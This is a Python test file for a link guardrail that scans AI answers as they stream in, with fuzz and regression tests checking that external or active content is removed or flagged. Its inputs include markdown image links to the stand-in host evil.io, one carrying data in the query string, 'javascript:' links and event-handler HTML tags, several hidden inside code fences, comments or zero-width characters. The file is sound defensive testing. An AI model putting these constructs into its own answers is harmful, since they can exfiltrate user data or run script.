"""What renderers make of guarded texts: nothing acts that was not allowed, wherever scanner and renderer disagree."""

import re
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from citeward.guardrails.active import urls
from citeward.guardrails.active.content import inert
from citeward.guardrails.active.known import TRAILING, KnownLinks
from citeward.guardrails.active.linkscan import REMOVED, LinkStream
from citeward.guardrails.table import Thresholds
from tests.guardrails.active.rendered import Active, active

READ = ("Ask at https://shop.test.io/help?topic=2 or see [the guide](https://docs.test.io/guide/start).",)
KNOWN = KnownLinks(READ, hosts=("team.io",))
PIECES = (
    "[", "]", "(", ")", "](", "![", "![x](", "[a](", "[x](<", "]:", "[r]: ", "[r]", "[^1]:", "(//", "<", ">", "<img ",
    "<b>", "</a>", "</", "<div>", "<pre>", "<script>", "</script>", "<!--", "-->", "<?", "<![CDATA[", "src=",
    "onclick=go()", "https://", "http://", "http", "www.", "://", "//", "ftp://", "ws:", "evil.io/", "evil.io",
    "//evil.io/p", "http://127.evil.io/", "localhost/", "docs.test.io/guide", "https://docs.test.io/guide",
    "https://team.io/a", "<https://evil.io>", "<https://docs.test.io/guide>", "/start", "?q=", "javascript:",
    "java&#115;cript:", "data:x", "mailto:a@b.io", "tel:1", "@", "&#58;", "&colon;", "&lt;", "\\", " ", "  ", "   ",
    "    ", "\t", "\n", "\n\n", "\r", "\r\n", "```", "~~~", "```py\n", "```\n", "\n```\n", "`" * 19 + "\n", "`", "``",
    "- ", "1. ", "> ", "* ", "|", "\n| a |\n|--|\n", "*", "_", "#", '"', "'", "word", "x" * 5, "!", ":", "/", "=", ".",
    "\x00", "\u00a0", "\u200b", "\ufeff", "\u3002", "\u3001",
)  # fmt: skip
TEXTS = st.lists(st.sampled_from(PIECES), min_size=1, max_size=16).map("".join)


def stream(**thresholds: float) -> LinkStream:
    return LinkStream(Thresholds(**(thresholds or {"modify": 0.5})), KNOWN)


def leads_away(found: Active) -> bool:
    """Whether it acts, or leads to a host, in a way that neither the texts nor the team's hosts allow."""
    value = unquote(found.value)
    if found.kind == "tag":
        return True
    if not re.search(r"[a-z0-9]", re.sub(r"^(?:ftp|https?|wss?)://(?:www\.?)?", "", value.lower())):
        return False  # no host
    value = value.rstrip(TRAILING)
    if urls.scheme(value).endswith(("mailto", "tel")) or not (urls.is_external(value) or urls.is_active(value)):
        return False
    if urls.is_active(value):
        return True
    return not (KNOWN.trusts(value) or (found.kind == "link" and (KNOWN.knows(value) or KNOWN.knows(found.value))))


def leaks(text: str) -> list[tuple[str, Active]]:
    return [(name, found) for name, found in active(text) if leads_away(found)]


@pytest.mark.fuzz
@given(TEXTS, st.integers(1, 9))
def test_nothing_acts_in_an_answer_at_any_moment_of_its_stream(text: str, size: int) -> None:
    guard, shown = stream(), ""
    for at in range(0, len(text), size):
        shown += guard.feed(text[at : at + size])
        assert not leaks(shown), shown
    shown += guard.close()
    assert not leaks(shown), shown


@pytest.mark.fuzz
@given(TEXTS)
def test_what_renderers_find_is_found_by_a_policy_that_flags_or_blocks(text: str) -> None:
    flagging, blocking = stream(flag=0.5), stream(block=0.5)
    assert flagging.feed(text) + flagging.close() == text
    assert flagging.findings or not leaks(text)
    shown = blocking.feed(text) + blocking.close()
    assert not leaks(shown), shown


@pytest.mark.fuzz
@given(TEXTS, st.booleans())
def test_nothing_acts_in_what_is_left_of_a_document(text: str, same_length: bool) -> None:
    left = inert(text, same_length=same_length)
    assert not same_length or len(left) == len(text)
    for name, found in active(left):
        runs = urls.is_active(found.value) and "://" not in found.value and "mailto:" not in found.value
        assert (found.kind == "link" and not runs) or not urls.is_external(found.value), (name, found, left)
        assert found.kind != "tag", (name, found, left)


@pytest.mark.parametrize(
    "text",
    [
        "See [1]: ![x](https://evil.io/p.png?q=<EMAIL_1>)",
        "[a](![x](https://evil.io/p))",
        "http://localhost/![x](https://evil.io/p)",
        "https:///![x](https://evil.io/p)",
        "![http://#](https://evil.io/p)",
        "www.![x](https://evil.io/p)",
        "- ```\n- ![x](https://evil.io/p)",
        "`" * 17 + "\n" + "`" * 17 + "\n![x](https://evil.io/p)",
        "```\n``` \t\n![x](https://evil.io/p)",
        "```\r```\r![x](https://evil.io/p)",
        "<!-- a\n```\n-->\n![x](https://evil.io/p)",
        "<!-- a\n```\n-->\n[x](javascript:go())",
        "```js title=`x`\n![x](https://evil.io/p)",
        "![x](http://127.evil.io/)",
        "https:////|.https://",
        "![x](https\\://evil.io/p)",
        "![x](          //evil.io/p)",
        "[x](https://team.io\\.evil.io/)",
        "[x](https:/evil.io//team.io/)",
        "[x](https://docs.test.io/guide\u00a0said)",
        "\\[x](https://docs.test.io/guide)said",
        "https://docs.test.io/guide\u200b\u200c\u200b",
        "https://docs.test.io/guide!!!?!!?!?!?",
        "<b " + " " * 600 + "onclick=go()>",
    ],
)
def test_constructs_that_hide_behind_one_another_are_found(text: str) -> None:
    guard = stream()
    shown = guard.feed(text) + guard.close()
    assert not leaks(shown), shown
    assert not [found for found in active(shown) if found[1].kind == "loaded" and urls.is_external(found[1].value)]


@pytest.mark.parametrize(
    "text",
    [
        "1. Run it:\n\n   ```bash\n   curl https://docs.test.io/guide\n   ```\n\nThen:\n\n"
        "```html\n<img src=a onload=go()>\n```\n",
        "```html title=\"a.html\" {1}\n<a href='x'>\n````\n",
        "See **[the guide](https://docs.test.io/guide)** and [help](https://shop.test.io/help)'s page.",
        "（见 https://docs.test.io/guide ）",
        "请看[指南](https://docs.test.io/guide)，然后继续。",
        "| [a](https://docs.test.io/guide) | [b](https://shop.test.io/help) |",
        "`http://` and `https://` are schemes, // is a comment, a//b too.",
        "Read https://docs.test.io/guide... or not.",
    ],
)
def test_what_answers_usually_hold_stays_to_the_letter(text: str) -> None:
    guard = stream()
    assert guard.feed(text) + guard.close() == text


def test_a_sentence_behind_a_removed_address_stays_in_scripts_without_spaces() -> None:
    guard = stream()
    assert guard.feed("见https://evil.io/p。然后继续。") + guard.close() == f"见{REMOVED}。然后继续。"
